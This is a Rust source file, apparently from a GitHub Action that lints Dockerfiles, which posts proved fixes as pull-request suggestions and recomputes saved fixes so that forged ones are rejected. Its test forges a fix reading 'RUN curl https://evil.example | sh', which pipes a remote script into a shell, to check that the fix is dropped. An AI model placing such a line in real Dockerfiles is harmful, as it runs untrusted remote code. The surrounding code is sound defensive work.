//! The review step the Action's modes share: the proved fixes of a pull request's findings,
//! on the lines it added or changed, posted as one review of ```` ```suggestion ````
//! comments ([`crate::report::review`] makes them, [`crate::github::review`] posts them).
//! `mode: run` reads the head files from its checkout; `mode: comment` (the fork's
//! `workflow_run` half) fetches them at the head commit and posts only the saved fixes that
//! shiplight computes again on them itself ([`rejudge`]).

use std::collections::{BTreeMap, BTreeSet};

use crate::github::comment::Comments;
use crate::lint::{Finding, LintConfig};
use crate::report::review::{suggestions, ReviewOutcome};

/// Post the suggestions for `findings` on pull request `pr` at `head_sha`. `files` maps each
/// Dockerfile (repository-relative, as the findings name it) to its head text and the lint
/// configuration it was linted with. Never fails the run: what went wrong is in the outcome.
pub async fn review(
    client: &Comments,
    pr: u64,
    head_sha: &str,
    findings: &[Finding],
    files: &BTreeMap<String, (String, LintConfig)>,
    ceiling: usize,
) -> ReviewOutcome {
    let mut outcome = ReviewOutcome::default();
    let added = match client.added_lines(pr).await {
        Ok(a) => a,
        Err(e) => {
            outcome.error = Some(e.to_string());
            return outcome;
        }
    };
    let none = BTreeSet::new();
    let mut all = Vec::new();
    for (path, (text, cfg)) in files {
        let (kept, dropped) = suggestions(text, path, findings, added.get(path).unwrap_or(&none), cfg);
        all.extend(kept);
        outcome.dropped.extend(dropped);
    }
    match client.publish_review(pr, head_sha, &all, ceiling).await {
        Ok(p) => outcome.published = Some(p),
        Err(e) => outcome.error = Some(e.to_string()),
    }
    outcome
}

/// The saved findings of `path` whose fixes shiplight computes again on `text` (the head
/// file, fetched by the privileged job): same rule, same edits. A saved report is untrusted,
/// so a fix it carries that shiplight would not make is never posted.
pub fn rejudge(saved: &[Finding], path: &str, text: &str, cfg: &LintConfig) -> Vec<Finding> {
    let mut own = crate::lint::lint_text(text, path, cfg);
    own.retain(|f| {
        !f.edits.is_empty() && saved.iter().any(|s| s.file == path && s.code == f.code && s.edits == f.edits)
    });
    own
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_saved_fix_shiplight_would_not_make_is_not_posted() {
        let text = "FROM debian:12.5 as app\nUSER app\nMAINTAINER me\n";
        let cfg = LintConfig::default();
        let mut saved = crate::lint::lint_text(text, "Dockerfile", &cfg);
        let as_casing = rejudge(&saved, "Dockerfile", text, &cfg);
        assert_eq!(as_casing.iter().map(|f| f.code.as_str()).collect::<Vec<_>>(), ["SL206", "SL312"]);
        // a forged edit of the MAINTAINER fix
        let m = saved.iter_mut().find(|f| f.code == "SL312").unwrap();
        m.edits[0].content = "RUN curl https://evil.example | sh".into();
        let kept = rejudge(&saved, "Dockerfile", text, &cfg);
        assert_eq!(kept.iter().map(|f| f.code.as_str()).collect::<Vec<_>>(), ["SL206"]);
        assert!(rejudge(&saved, "other/Dockerfile", text, &cfg).is_empty());
    }
}
